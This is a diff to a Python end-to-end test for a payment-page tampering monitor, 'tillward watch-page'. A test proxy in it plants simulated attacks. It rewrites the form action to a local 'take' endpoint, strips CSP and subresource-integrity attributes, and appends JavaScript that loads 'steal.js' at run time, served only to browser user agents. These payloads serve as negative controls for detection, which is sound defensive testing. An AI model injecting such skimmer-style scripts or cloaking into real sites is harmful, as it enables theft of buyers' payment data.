@@ -5,15 +5,19 @@
 
 A headless Chromium pays at a `tillward serve` of our own: what it loaded and the headers it got are compared with the table in
 docs/payment-page.md. Negative control: a proxy in front adds a script, writes one into the page, changes the bytes of a file,
-or drops the policy; `tillward watch-page` must find each, and where the policy still stands the browser must stop it and
-report it, which the program's audit log must say.
+or drops the policy; `tillward watch-page` must find each; what it gives to browsers alone and adds at run time must be
+found with `--watch-browser` and by no reading. Where the policy still stands the browser must stop it and report it, which the
+program's audit log must say.
 """
 
 import json
+import os
 import pathlib
 import re
+import shutil
 import subprocess
 import sys
+import tempfile
 import threading
 import time
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -29,6 +33,9 @@ SHOTS = ROOT / "target" / "test-logs" / "page"
 SECONDS_MAX = 20
 REPORT_SECONDS_MAX = 90
 CHANGED = 2
+BROWSER = ["--watch-browser", shutil.which("chromium") or "/usr/bin/chromium"]
+if os.geteuid() == 0:
+    BROWSER.append("--watch-browser-dangerously-unsandboxed")
 HEADERS = ["content-security-policy", "x-content-type-options", "x-frame-options", "referrer-policy",
            "cross-origin-opener-policy", "permissions-policy"]
 FAULTS = {
@@ -67,7 +74,8 @@ class Proxy(BaseHTTPRequestHandler):
                                allow_redirects=False)
         answer, data = dict(got.headers), got.content
         html = "text/html" in got.headers.get("content-type", "")
-        data = plant(self.fault, self.path, html, answer, data)
+        is_browser = "Mozilla" in self.headers.get("user-agent", "")
+        data = plant(self.fault, self.path, html, answer, data) if is_browser or self.fault != "run time" else data
         self.send_response(got.status_code)
         for name, value in answer.items():
             if name.lower() not in ("content-length", "transfer-encoding", "connection"):
@@ -89,11 +97,24 @@ def plant(fault, path, html, headers, data):
         return data.replace(b'action="/', b'action="http://127.0.0.1:9/take" x="/')
     if fault == "bytes" and path.startswith("/assets/buyer-"):
         return data + b"\nwindow.stolen=1"
+    if fault == "run time":
+        return plant_at_run_time(path, html, headers, data)
     if fault == "no policy":
         drop(headers, "content-security-policy")
     if fault == "weak policy" and html:
         drop(headers, "content-security-policy")
         headers["content-security-policy"] = "script-src * 'unsafe-inline'"
+    return data
+
+
+def plant_at_run_time(path, html, headers, data):
+    """What a thief gives to browsers alone: a script of ours that adds another one once it runs."""
+    drop(headers, "content-security-policy")
+    if html:
+        return re.sub(rb' integrity="[^"]*"', b"", data)
+    if path.startswith("/assets/buyer-"):
+        return data + (b"\nsetTimeout(() => { const s = document.createElement('script');"
+                       b" s.src = 'http://127.0.0.1:9/steal.js'; document.body.append(s); }, 500);")
     return data
 
 
@@ -188,22 +209,39 @@ def walk(tally, window, server, url, path, listed):
     window.shoot("pin-page")
 
 
-def watch(url):
+def watch(url, *options):
     """What `tillward watch-page` says: exit code and its object."""
-    done = subprocess.run([program(), "watch-page", "--url", url, "--json"], env=clean_environment(), text=True,
-                          capture_output=True, timeout=60)
+    done = subprocess.run([program(), "watch-page", "--url", url, "--json", *options], env=clean_environment(), text=True,
+                          capture_output=True, timeout=180)
     return done.returncode, json.loads(done.stdout or "{}"), done.stderr
 
 
 def check_watch(tally, url):
     code, seen, err = watch(url)
-    tally.check(code == 0 and seen["findings"] == [] and seen["pages"] == 2, f"an honest proxy is no finding: {seen} {err}")
+    tally.check(code == 0 and seen["findings"] == [] and seen["pages"] == 3, f"an honest proxy is no finding: {seen} {err}")
     for fault, words in FAULTS.items():
         Proxy.fault = fault
         code, seen, err = watch(url)
         texts = [finding["text"] for finding in seen.get("findings", [])]
         tally.check(code == CHANGED and any(words in text for text in texts), f"the watch finds `{fault}`: {texts} {err}")
     Proxy.fault = ""
+
+
+def check_run(tally, url):
+    """The look that runs the scripts, in a browser of its own, against one that only reads."""
+    code, seen, err = watch(url, *BROWSER)
+    clean = code == 0 and seen["findings"] == [] and (seen["pages"], seen["pages_run"]) == (3, 3)
+    tally.check(clean, f"an honest page has no finding once its scripts ran: {seen} {err}")
+    Proxy.fault = "run time"
+    code, seen, err = watch(url)
+    tally.check(code == 0 and seen["findings"] == [], f"what browsers alone are given is not seen by reading: {seen} {err}")
+    code, seen, err = watch(url, *BROWSER)
+    texts = [finding["text"] for finding in seen.get("findings", [])]
+    added = "the script `http://127.0.0.1:9/steal.js` is not in the inventory"
+    tally.check(code == CHANGED and added in texts, f"a script that was added at run time is found: {texts} {err}")
+    Proxy.fault = ""
+    left = list(pathlib.Path(tempfile.gettempdir()).glob("tillward-look-*"))
+    tally.check(not left, f"no folder of a browser is left: {left}")
 
 
 def check_reports(tally, window, server, url):
@@ -256,6 +294,7 @@ def main():
         try:
             walk(tally, window, server, url, re.sub(r"^https?://[^/]+", "", order["pay_url"]), listed)
             check_watch(tally, url + path)
+            check_run(tally, url + path)
             check_reports(tally, window, server, url + path)
         finally:
             window.close()
